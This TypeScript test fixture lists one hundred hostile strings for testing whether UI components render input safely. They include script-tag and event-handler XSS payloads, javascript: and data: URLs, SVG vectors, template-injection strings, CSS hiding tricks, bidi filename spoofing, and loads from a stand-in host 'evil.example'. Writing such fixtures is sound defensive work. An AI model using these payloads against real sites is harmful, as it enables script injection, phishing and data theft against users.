// Texts that attack whoever shows them. A page in which one runs calls `ran`, which every story watches.

const scripts = [
  '<script>ran()</script>',
  '<SCRIPT>ran()</SCRIPT>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '"><script>ran()</script>',
  "'><script>ran()</script>",
  '</textarea><script>ran()</script>',
  '</title><script>ran()</script>',
  '</script><script>ran()</script>',
  '<script src=https://evil.example/x.js></script>',
  '<script src="data:text/javascript,ran()"></script>',
  '<script type=module>ran()</script>',
  '<!--<script>-->ran()</script>',
  '<noscript><p title="</noscript><script>ran()</script>">',
  '<template><script>ran()</script></template>',
  '%3Cscript%3Eran()%3C/script%3E',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&#60;script&#62;ran()&#60;/script&#62;',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '＜script＞ran()＜/script＞',
];

const handlers = [
  '<img src=x onerror=ran()>',
  '<img src=x onerror="ran()"',
  '<img src=`x` onerror=ran()>',
  '<IMG """><script>ran()</script>">',
  '<body onload=ran()>',
  '<input autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>x</details>',
  '<video src=x onerror=ran()></video>',
  '<audio src=x onerror=ran()>',
  '<marquee onstart=ran()>x</marquee>',
  '<p onmouseover=ran()>over</p>',
  '" onmouseover="ran()',
  "' onfocus='ran()' autofocus='",
  '<iframe onload=ran()></iframe>',
  '<object data=x onerror=ran()></object>',
  '<style onload=ran()></style>',
  '<div style="animation:x" onanimationstart=ran()>',
  '<button popovertarget=x onbeforetoggle=ran()>b</button>',
];

const addresses = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  'java\tscript:ran()',
  'javascript://example.com/%0Aran()',
  'https://example.com/?next=javascript:ran()',
  '<a href="javascript:ran()">click</a>',
  '[click](javascript:ran())',
  'data:text/html,<script>ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  'vbscript:ran()',
  '<iframe src="javascript:ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<form action="javascript:ran()"><input type=submit></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<img src="https://evil.example/pixel.gif">',
  'http://example.com/"onclick="ran()"',
  'https://user:password@evil.example/',
  '//evil.example/x',
];

const templates = [
  '{{constructor.constructor("ran()")()}}',
  '{{7*7}}',
  '${ran()}',
  '#{ran()}',
  '<%= ran() %>',
  '{%raw%}{{ran()}}{%endraw%}',
  '[[ran()]]',
  '{{name}} {{count}}',
  '$t(app:signOut)',
  '%s %d %n %x',
  '{0} {1} {}',
  '`ran()`',
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
];

const drawings = [
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe onload=ran()></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran() xmlns=http://www.w3.org/2000/svg>#x"></svg>',
  '<math><mtext><img src=x onerror=ran()></mtext></math>',
  '<math href="javascript:ran()">x</math>',
];

const styles = [
  '<style>*{display:none!important}</style>',
  '</style><style>body{visibility:hidden}</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  'expression(ran())',
  '@import "https://evil.example/x.css";',
  '}*{display:none}',
];

const letters = [
  '\u202Eevil txt.exe\u202C',
  '\u2066left\u2069 \u2067right\u2069',
  '\u200Fعربى and English 123',
  'שלום <script>ran()</script> עולם',
  `Z${'\u0335\u0316\u0353\u0489'.repeat(40)}algo`,
  `${'\u0300'.repeat(150)}a`,
  '👩‍👩‍👧‍👦🏳️‍🌈👩🏽‍💻 🇲🇽',
  'word'.repeat(50),
  'zero\u200Bwidth\u200Djoiner\uFEFFmark',
  'ﷺ﷽𒐫 ௵',
  'a\u0301 ä Å ﬁ',
  '=HYPERLINK("https://evil.example","x")',
];

/** One hundred of them, none longer than a name may be. */
export const hostileStrings: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...templates,
  ...drawings,
  ...styles,
  ...letters,
];
